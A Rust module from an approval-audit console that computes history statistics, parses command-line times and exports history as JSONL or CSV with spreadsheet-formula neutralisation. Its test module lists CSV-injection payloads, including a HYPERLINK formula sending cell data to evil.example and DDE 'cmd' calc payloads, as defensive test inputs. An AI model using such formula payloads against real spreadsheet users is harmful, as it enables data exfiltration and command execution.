//! What a manager reviews: history pages with a total, the charts, and exports.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::PathBuf;

use countersign_protocol::DataClass;
use serde::Serialize;
use serde_json::Value;

use crate::history::{Filter, HistoryDetail, Resolution, Row};
use crate::{Console, ConsoleError, Result};

/// Decisions of one day (UTC) by outcome.
#[derive(Debug, Clone, Default, Serialize, PartialEq, Eq)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS), ts(rename = "DayCount"))]
pub struct DayStat {
    /// `YYYY-MM-DD`.
    pub day: String,
    /// Requests resolved approved.
    pub approved: u32,
    /// Requests resolved denied.
    pub denied: u32,
    /// Requests that expired.
    pub expired: u32,
}

/// Requests received of one data class.
#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase")]
pub struct ClassCount {
    /// The data class.
    pub data_class: DataClass,
    /// Requests received.
    pub count: u32,
}

/// The figures a manager wants at a glance (the history screen's charts).
#[derive(Debug, Clone, Default, Serialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS), ts(rename = "HistoryStats"))]
#[serde(rename_all = "camelCase")]
pub struct Stats {
    /// Outcomes per day, oldest first.
    pub per_day: Vec<DayStat>,
    /// Requests received per data class, by class name.
    pub by_class: Vec<ClassCount>,
    /// Median seconds from a request's arrival to this approver's signed decision.
    pub decision_seconds_p50: Option<f64>,
    /// 90th percentile of the same.
    pub decision_seconds_p90: Option<f64>,
    /// Decisions signed.
    pub decisions: u32,
}

/// Export formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportFormat {
    /// One JSON object per line.
    Jsonl,
    /// RFC 4180 CSV with a header, for spreadsheets: written by the `csv` crate, and every cell a
    /// spreadsheet would run as a formula is neutralized by a leading `'` (see [`csv_cell`]).
    Csv,
}

impl ExportFormat {
    /// Parse `jsonl` or `csv`.
    pub fn parse(s: &str) -> Result<Self> {
        match s {
            "jsonl" => Ok(ExportFormat::Jsonl),
            "csv" => Ok(ExportFormat::Csv),
            other => Err(ConsoleError::Invalid(format!("unknown export format {other:?} (jsonl or csv)"))),
        }
    }
}

/// A CSV cell a spreadsheet will not evaluate (OWASP "CSV Injection"): a cell starting with `=`,
/// `+`, `-`, `@`, TAB or CR — or their full-width forms, which some spreadsheets read as the same —
/// gets a leading single quote, so it is shown as the text it is. Every other cell is unchanged;
/// quoting, embedded quotes and newlines are the CSV writer's business.
pub fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}') => {
            format!("'{s}").into()
        }
        _ => s.into(),
    }
}

/// `rows` as CSV with a header, for reading in a spreadsheet or a terminal: every cell through
/// [`csv_cell`]; hidden characters (controls, bidi, invisible) made visible — in `detail` as JSON
/// `\u` escapes, so it is still the same JSON value. The exact stored bytes are in the JSONL export.
pub fn write_csv(rows: &[Row], out: &mut impl Write) -> Result<()> {
    let bad = |e: csv::Error| ConsoleError::Invalid(format!("writing the export: {e}"));
    let mut w = csv::Writer::from_writer(out);
    w.write_record(["seq", "at", "kind", "ep", "request_id", "detail", "prev_hash", "hash"]).map_err(bad)?;
    for r in rows {
        let text = |s: &str| crate::display::visible(s).0;
        let (seq, at) = (r.seq.to_string(), r.at.to_string());
        let (kind, ep, id) =
            (text(&r.kind), text(r.ep.as_deref().unwrap_or("")), text(r.request_id.as_deref().unwrap_or("")));
        let detail = crate::display::json_safe(&r.detail);
        let cells =
            [seq.as_str(), at.as_str(), &kind, &ep, &id, &detail, &text(&r.prev_hash), &text(&r.hash)];
        w.write_record(cells.map(csv_cell).iter().map(|c| c.as_bytes())).map_err(bad)?;
    }
    w.flush().map_err(|e| ConsoleError::Invalid(format!("writing the export: {e}")))?;
    Ok(())
}

/// Civil date (UTC) of a Unix time, `YYYY-MM-DD`.
pub fn utc_day(t: i64) -> String {
    chrono::DateTime::from_timestamp(t, 0).map(|d| d.format("%Y-%m-%d").to_string()).unwrap_or_default()
}

/// A point in time given on a command line: RFC 3339 (`2026-11-26T09:30:00Z`, `…+01:00`), a UTC
/// date (`2026-11-26`, its midnight), seconds since the epoch, or an age before `now` (`30m`, `2h`,
/// `7d`). Unix seconds, or a clear error naming the accepted forms.
pub fn parse_when(s: &str, now: i64) -> Result<i64> {
    let s = s.trim();
    let bad = || {
        ConsoleError::Invalid(format!(
            "{s:?}: use an RFC 3339 time (2026-11-26T09:30:00Z), a date (2026-11-26), seconds since \
             the epoch, or an age (30m, 2h, 7d)"
        ))
    };
    if let Ok(t) = s.parse::<i64>() {
        return Ok(t);
    }
    if let Ok(t) = chrono::DateTime::parse_from_rfc3339(s) {
        return Ok(t.timestamp());
    }
    if let Ok(d) = chrono::NaiveDate::parse_from_str(s, "%Y-%m-%d") {
        return d.and_hms_opt(0, 0, 0).map(|t| t.and_utc().timestamp()).ok_or_else(bad);
    }
    let (n, unit) = s.split_at(s.len().saturating_sub(1));
    let n: i64 = n.parse().map_err(|_| bad())?;
    let secs = match unit {
        "s" => n,
        "m" => n * 60,
        "h" => n * 3600,
        "d" => n * 86_400,
        _ => return Err(bad()),
    };
    Ok(now - secs)
}

/// An enforcement point's answer to a decision (its JSON body, as stored) in words.
pub fn answer_text(raw: &str) -> String {
    match serde_json::from_str::<Value>(raw) {
        Ok(v) => answer_words(&v),
        Err(_) => cut(raw),
    }
}

/// An enforcement point's answer (its JSON body) in words.
pub fn answer_words(v: &Value) -> String {
    let counts = v["approvals"].as_u64().zip(v["approvals_required"].as_u64());
    match (v["state"].as_str(), v["message"].as_str(), counts) {
        (Some("pending"), _, Some((n, of))) => {
            format!("still pending at the enforcement point: {n} of {of} approvals")
        }
        (Some(state), _, Some((n, of))) if of > 1 => {
            format!("the enforcement point reports it {state} ({n} of {of} approvals)")
        }
        (Some(state), ..) => format!("the enforcement point reports it {state}"),
        (None, Some(message), _) => format!("the enforcement point refused it: {message}"),
        _ => cut(&v.to_string()),
    }
}

/// At most 200 characters of something odd, rather than all of it.
fn cut(s: &str) -> String {
    s.chars().take(200).collect()
}

/// One history row in words, for the CLI and the app: what happened, beside the columns (time,
/// kind, tier, class, workload) that say the rest.
pub fn row_summary(detail: &HistoryDetail) -> String {
    let fp = |k: &str| countersign_protocol::jwk::fingerprint(k);
    match detail {
        HistoryDetail::RequestReceived(r) => {
            let what = if r.statement.is_empty() { &r.purpose } else { &r.statement };
            format!("{what} — {}", r.target)
        }
        HistoryDetail::RequestRejected(r) => r.reason.clone(),
        HistoryDetail::DecisionSigned(d) if d.reason.is_empty() => verdict_word(d.verdict).to_string(),
        HistoryDetail::DecisionSigned(d) => format!("{}: {}", verdict_word(d.verdict), d.reason),
        HistoryDetail::Delivered(d) | HistoryDetail::DeliveryRefused(d) => {
            format!("HTTP {} — {}", d.status, answer_words(&d.answer))
        }
        HistoryDetail::Resolved(r) => format!("→ {}", r.state.as_str()),
        HistoryDetail::KeyCreated(k) | HistoryDetail::KeyRotated(k) => {
            let retired: Vec<String> = k.retired.iter().map(|r| fp(r)).collect();
            match retired.is_empty() {
                true => format!("key {}", fp(&k.kid)),
                false => format!("key {}, replacing {}", fp(&k.kid), retired.join(", ")),
            }
        }
        // Shown as stored, as before a summary was written for it.
        HistoryDetail::KeyRotationSent(_) => cut(&detail.to_text().unwrap_or_default()),
        HistoryDetail::Checkpoint(c) => format!("rows 1–{} signed by key {}", c.upto, fp(&c.kid)),
        HistoryDetail::Reanchored(r) => {
            let mut text = format!(
                "{} rows accepted as the history; the keyring's anchor was at row {}",
                r.rows, r.previous_anchor.seq
            );
            if let Some(from) = r.missing_from {
                text.push_str(&format!(" (rows from {from} on are gone)"));
            }
            if let Some(at) = r.diverged_at {
                text.push_str(&format!(" (the history differs from row {at} on)"));
            }
            text
        }
        HistoryDetail::Unreadable { detail, .. } => cut(&detail.to_string()),
    }
}

/// A verdict as the history shows it.
fn verdict_word(v: countersign_protocol::Verdict) -> &'static str {
    match v {
        countersign_protocol::Verdict::Approve => "approve",
        countersign_protocol::Verdict::Deny => "deny",
    }
}

fn percentile(sorted: &[f64], p: f64) -> Option<f64> {
    if sorted.is_empty() {
        return None;
    }
    Some(sorted[((sorted.len() - 1) as f64 * p).round() as usize])
}

impl Console {
    /// One page of history rows matching `filter`, newest first, and how many match in all.
    pub async fn history_page(&self, filter: &Filter, offset: i64, limit: i64) -> Result<(Vec<Row>, i64)> {
        let total = self.history_count(filter).await?;
        let f = Filter { limit: Some(limit), offset: Some(offset), ..filter.clone() };
        Ok((self.history(&f).await?, total))
    }

    /// Outcomes per day, requests per data class and time to decision over the rows `filter` selects.
    pub async fn history_stats(&self, filter: &Filter) -> Result<Stats> {
        let rows = self.history(&Filter { limit: None, offset: None, ..filter.clone() }).await?;
        let mut days: BTreeMap<String, DayStat> = BTreeMap::new();
        // By class name, as the chart lists them.
        let mut classes: BTreeMap<&'static str, ClassCount> = BTreeMap::new();
        let mut received: std::collections::HashMap<String, i64> = Default::default();
        let mut signed: Vec<(String, i64)> = Vec::new();
        for r in &rows {
            match r.typed_detail() {
                HistoryDetail::RequestReceived(d) => {
                    classes
                        .entry(d.class.as_str())
                        .or_insert(ClassCount { data_class: d.class, count: 0 })
                        .count += 1;
                    if let Some(id) = &r.request_id {
                        received.insert(id.clone(), r.at);
                    }
                }
                HistoryDetail::Resolved(d) => {
                    let day = days
                        .entry(utc_day(r.at))
                        .or_insert_with(|| DayStat { day: utc_day(r.at), ..Default::default() });
                    match d.state {
                        Resolution::Approved => day.approved += 1,
                        Resolution::Denied => day.denied += 1,
                        Resolution::Expired => day.expired += 1,
                        Resolution::Withdrawn => {}
                    }
                }
                HistoryDetail::DecisionSigned(_) => {
                    if let Some(id) = &r.request_id {
                        signed.push((id.clone(), r.at));
                    }
                }
                _ => {}
            }
        }
        let mut waits: Vec<f64> =
            signed.iter().filter_map(|(id, at)| received.get(id).map(|r| (at - r).max(0) as f64)).collect();
        waits.sort_by(f64::total_cmp);
        Ok(Stats {
            per_day: days.into_values().collect(),
            by_class: classes.into_values().collect(),
            decision_seconds_p50: percentile(&waits, 0.5),
            decision_seconds_p90: percentile(&waits, 0.9),
            decisions: signed.len() as u32,
        })
    }

    /// Write the whole history, oldest first, with every column (including the original signed
    /// tokens held in `detail` and the chain hashes) — everything an auditor needs. JSONL is exact
    /// (hidden characters inside strings are written as `\u` escapes: the same values, safe on a
    /// terminal); CSV is for spreadsheets, formula cells neutralized ([`csv_cell`]).
    pub async fn export_history(&self, format: ExportFormat, out: &mut impl Write) -> Result<usize> {
        let mut rows = self.history(&Filter::default()).await?;
        rows.reverse();
        let io = |e: std::io::Error| ConsoleError::Invalid(format!("writing the export: {e}"));
        match format {
            ExportFormat::Csv => write_csv(&rows, out)?,
            ExportFormat::Jsonl => {
                for r in &rows {
                    let line = serde_json::to_string(r).map_err(|e| ConsoleError::Invalid(e.to_string()))?;
                    writeln!(out, "{}", crate::display::json_safe(&line)).map_err(io)?;
                }
            }
        }
        Ok(rows.len())
    }

    /// Export into `<profile>/exports/history-<time>.<format>`; the path written.
    pub async fn export_history_file(&self, format: &str) -> Result<PathBuf> {
        let format_ = ExportFormat::parse(format)?;
        let dir = self.profile().dir.join("exports");
        std::fs::create_dir_all(&dir)
            .map_err(|e| ConsoleError::Invalid(format!("creating {}: {e}", dir.display())))?;
        let path = dir.join(format!("history-{}.{format}", crate::now()));
        let mut file = std::io::BufWriter::new(
            std::fs::File::create(&path)
                .map_err(|e| ConsoleError::Invalid(format!("creating {}: {e}", path.display())))?,
        );
        self.export_history(format_, &mut file).await?;
        file.flush().map_err(|e| ConsoleError::Invalid(e.to_string()))?;
        Ok(path)
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn answers_read_as_words() {
        use super::answer_text;
        let one = r#"{"approvals":1,"approvals_required":1,"id":"x","state":"approved"}"#;
        assert_eq!(answer_text(one), "the enforcement point reports it approved");
        let quorum = r#"{"approvals":2,"approvals_required":2,"id":"x","state":"approved"}"#;
        assert_eq!(answer_text(quorum), "the enforcement point reports it approved (2 of 2 approvals)");
        let waiting = r#"{"approvals":1,"approvals_required":2,"id":"x","state":"pending"}"#;
        assert_eq!(answer_text(waiting), "still pending at the enforcement point: 1 of 2 approvals");
        let refused = r#"{"error":"conflict","message":"already decided"}"#;
        assert_eq!(answer_text(refused), "the enforcement point refused it: already decided");
        assert_eq!(answer_text("<html>bad gateway</html>"), "<html>bad gateway</html>");
        assert_eq!(answer_text(&"x".repeat(500)).len(), 200, "an odd answer is cut, not dumped");
    }

    #[test]
    fn history_rows_read_as_words() {
        use serde_json::json;
        // Stored rows as earlier versions wrote them, read typed.
        let summary = |kind: &str, detail: serde_json::Value| {
            super::row_summary(&crate::history::HistoryDetail::parse(kind, &detail.to_string()))
        };
        let kid = "kPrK_qmxVWaYVA9wwBF6Iuo3vVzz7TxHCTwXBygrS4k";
        let jwk = countersign_protocol::Jwk::from_key(&countersign_protocol::generate_key().verifying_key());
        let received = json!({"statement": "Export leads", "purpose": "crm.export", "target": "crm/production",
            "jwt": "j", "digest": "d", "workload": "spiffe://w", "class": "internal", "tier": "high"});
        assert_eq!(summary("request received", received), "Export leads — crm/production");
        let signed = |verdict: &str, reason: &str| json!({"jti": "d1", "verdict": verdict, "reason": reason, "kid": kid, "digest": "d", "token": "t"});
        assert_eq!(summary("decision signed", signed("approve", "")), "approve");
        assert_eq!(summary("decision signed", signed("deny", "no")), "deny: no");
        let delivered = json!({"status": 200, "jti": "j", "answer": {"state": "approved", "approvals": 1, "approvals_required": 1}});
        assert_eq!(summary("delivered", delivered), "HTTP 200 — the enforcement point reports it approved");
        assert_eq!(
            summary("key created", json!({"kid": kid, "jwk": jwk, "retired": []})),
            "key kPrK _qmx VWaY VA9w wBF6 Iuo3"
        );
        let rotated = json!({"kid": "AAAABBBB", "jwk": jwk, "retired": [kid]});
        assert_eq!(summary("key rotated", rotated), "key AAAA BBBB, replacing kPrK _qmx VWaY VA9w wBF6 Iuo3");
        let cp = json!({"upto": 99, "head": "h", "kid": kid, "sig": "s"});
        assert_eq!(summary("checkpoint", cp), "rows 1–99 signed by key kPrK _qmx VWaY VA9w wBF6 Iuo3");
        let re = json!({"previous_anchor": {"seq": 40, "hash": "h"}, "rows": 12, "missing_from": 13});
        assert_eq!(
            summary("history re-anchored", re),
            "12 rows accepted as the history; the keyring's anchor was at row 40 (rows from 13 on are gone)"
        );
        assert_eq!(summary("resolved", json!({"state": "withdrawn"})), "→ withdrawn");
        let sent = json!({"old_kid": null, "new_kid": kid, "outcome": {"result": "accepted"}});
        assert_eq!(summary("key rotation sent", sent.clone()), sent.to_string());
        assert_eq!(summary("something new", json!({"a": 1})), r#"{"a":1}"#);
    }

    use super::*;

    #[test]
    fn utc_days() {
        assert_eq!(utc_day(0), "1970-01-01");
        assert_eq!(utc_day(951_782_400), "2000-02-29");
        assert_eq!(utc_day(1_795_651_200), "2026-11-26");
    }

    #[test]
    fn times_on_the_command_line() {
        let now = 1_795_651_200 + 3600;
        assert_eq!(parse_when("2026-11-26T01:00:00Z", 0).unwrap(), now);
        assert_eq!(parse_when("2026-11-26T02:00:00+01:00", 0).unwrap(), now);
        assert_eq!(parse_when("2026-11-26", 0).unwrap(), 1_795_651_200);
        assert_eq!(parse_when("1795651200", 0).unwrap(), 1_795_651_200);
        assert_eq!(parse_when("2h", now).unwrap(), now - 7200);
        assert_eq!(parse_when("7d", now).unwrap(), now - 7 * 86_400);
        for bad in ["yesterday", "2026-13-01", "5y", "", "2026-11-26T25:00:00Z"] {
            let e = parse_when(bad, now).unwrap_err().to_string();
            assert!(e.contains("RFC 3339"), "{bad}: {e}");
        }
    }

    /// Hostile cells come back from a CSV parser as text starting with `'`; quoting, quotes and
    /// newlines round-trip; ordinary cells are untouched.
    #[test]
    fn csv_export_neutralizes_formulas_and_round_trips() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\u{FF1D}1+1",
        ];
        let row = |seq: i64, kind: &str, ep: &str, id: &str, detail: &str| Row {
            seq,
            at: 1_795_651_200,
            kind: kind.into(),
            ep: Some(ep.into()),
            request_id: Some(id.into()),
            detail: detail.into(),
            prev_hash: "sha256:prev".into(),
            hash: "sha256:this".into(),
        };
        let detail_of = |h: &str| serde_json::json!({ "statement": h }).to_string();
        let mut rows: Vec<Row> = hostile
            .iter()
            .enumerate()
            .map(|(i, h)| row(i as i64 + 1, "request received", h, h, &detail_of(h)))
            .collect();
        let tricky = "a, \"quoted\"\nsecond line\r\nthird\u{9b}";
        rows.push(row(99, "request received", "ep-plain", "req,1", &detail_of(tricky)));
        let mut out = Vec::new();
        write_csv(&rows, &mut out).unwrap();
        let mut reader = csv::Reader::from_reader(out.as_slice());
        assert_eq!(
            reader.headers().unwrap(),
            vec!["seq", "at", "kind", "ep", "request_id", "detail", "prev_hash", "hash"]
        );
        let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(records.len(), rows.len());
        for (rec, h) in records.iter().zip(hostile) {
            // A CR is made visible (`<U+000D>=1+1` starts with `<`); every other one keeps its text.
            let expected =
                if h.starts_with('\r') { h.replacen('\r', "<U+000D>", 1) } else { format!("'{h}") };
            for col in [3, 4] {
                assert_eq!(&rec[col], expected, "column {col} of {h:?} is neutralized text");
            }
            assert_eq!(&rec[2], "request received");
            let detail: serde_json::Value = serde_json::from_str(&rec[5]).unwrap();
            assert_eq!(detail["statement"], *h, "the detail cell is the same JSON");
        }
        let last = &records[hostile.len()];
        assert_eq!((&last[0], &last[3], &last[4]), ("99", "ep-plain", "req,1"));
        assert!(!last[5].contains('\u{9b}'), "hidden characters in detail are JSON escapes");
        let detail: serde_json::Value = serde_json::from_str(&last[5]).unwrap();
        assert_eq!(detail["statement"], tricky, "quoting, quotes and newlines round-trip");
        assert_eq!(&last[7], "sha256:this");
    }

    #[test]
    fn percentiles() {
        assert_eq!(percentile(&[], 0.5), None);
        assert_eq!(percentile(&[1.0, 2.0, 3.0], 0.5), Some(2.0));
    }
}
